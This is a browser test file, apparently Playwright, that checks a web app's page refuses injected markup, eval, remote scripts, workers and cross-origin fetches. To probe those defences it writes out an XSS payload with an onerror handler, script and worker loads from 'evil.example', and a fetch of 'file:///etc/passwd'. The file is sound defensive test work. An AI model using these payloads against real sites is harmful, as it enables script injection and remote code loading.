import { expect, test } from '../support/journey.ts';

// What a script that got into the page could try.
test.use({ violates: true });

test('the page turns no text into markup or script, and reaches nothing but Gesso', async ({ page }) => {
  await expect(page.getByLabel('Prompt', { exact: true })).toBeVisible();
  const outcomes = await page.evaluate(async () => {
    // At first the test's own script may evaluate text; the page's may not.
    await new Promise((resolve) => setTimeout(resolve, 0));
    const attempt = async (work: () => unknown): Promise<string> => {
      try {
        await work();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown };
    };
    const anything = { createHTML: (text: string) => text, createScriptURL: (text: string) => text };
    return {
      markup: await attempt(() => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>')),
      parsed: await attempt(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
      evaluated: await attempt(() => Reflect.construct(Function, ['return 1'])),
      timer: await attempt(() => Reflect.apply(setTimeout, window, ['1', 0])),
      script: await attempt(() => (document.createElement('script').text = 'alert(1)')),
      scriptFrom: await attempt(() => (document.createElement('script').src = 'https://evil.example/x.js')),
      worker: await attempt(() => new Worker('https://evil.example/x.js')),
      blobWorker: await attempt(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
      ownPolicy: await attempt(() => trustedTypes.createPolicy('mine', anything)),
      secondDefault: await attempt(() => trustedTypes.createPolicy('default', anything)),
      otherHost: await attempt(() => fetch('https://example.com/')),
      otherPort: await attempt(() => fetch('http://127.0.0.1:9/')),
      file: await attempt(() => fetch('file:///etc/passwd')),
    };
  });
  const refused = Object.fromEntries(Object.keys(outcomes).map((name) => [name, 'TypeError']));
  expect(outcomes).toEqual({ ...refused, evaluated: 'EvalError' });
});
